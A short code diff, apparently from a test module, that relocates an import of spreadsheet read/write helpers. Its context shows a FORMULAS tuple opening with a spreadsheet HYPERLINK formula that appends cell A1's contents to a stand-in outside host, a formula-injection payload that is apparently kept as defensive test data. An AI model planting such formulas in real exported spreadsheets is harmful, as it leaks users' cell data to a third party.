@@ -13,7 +13,7 @@ import models
 import node
 from models.research.cohort.records import CaseFacts, Equipment, Split
 from models.research.cohort.table import read_table, write_table
-from models.research.spreadsheet import read, write_mappings, written
+from models.spreadsheet import read, write_mappings, written
 
 FORMULAS = (
     '=HYPERLINK("http://a.example/"&A1,"more")',
